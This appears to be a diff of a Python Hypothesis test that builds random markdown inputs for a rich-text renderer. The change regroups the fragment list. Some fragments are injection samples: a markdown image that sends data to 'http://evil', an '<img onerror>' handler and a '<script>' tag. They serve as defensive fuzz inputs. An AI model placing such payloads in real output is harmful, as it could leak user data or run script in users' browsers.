@@ -7,9 +7,20 @@ from modules.core.types import Sentence, Support
 from modules.ui.rich_text import Block, blocks
 
 PIECES = st.sampled_from(
-    ["![x](http://evil/?d=1)", "[a](http://b)", "<img src=x onerror=y>", "**", "*", "`", "[1]", "[2, 3]", "[9]", "\n", "\n\n",
-     "- ", "1. ", "# ", "| a | b |\n|---|---|\n", "```", "word ", "The fee is 5 %. ", "<script>", "[x]: http://y", "> ", "\u2028"]
-)  # fmt: skip
+    (
+        *(
+            "![x](http://evil/?d=1)",
+            "[a](http://b)",
+            "<img src=x onerror=y>",
+            "<script>",
+            "[x]: http://y",
+            "> ",
+            "\u2028",
+        ),
+        *("**", "*", "`", "[1]", "[2, 3]", "[9]", "\n", "\n\n", "- ", "1. ", "# ", "| a | b |\n|---|---|\n", "```"),
+        *("word ", "The fee is 5 %. "),
+    )
+)
 TEXTS = st.lists(PIECES, max_size=25).map("".join)
 
 
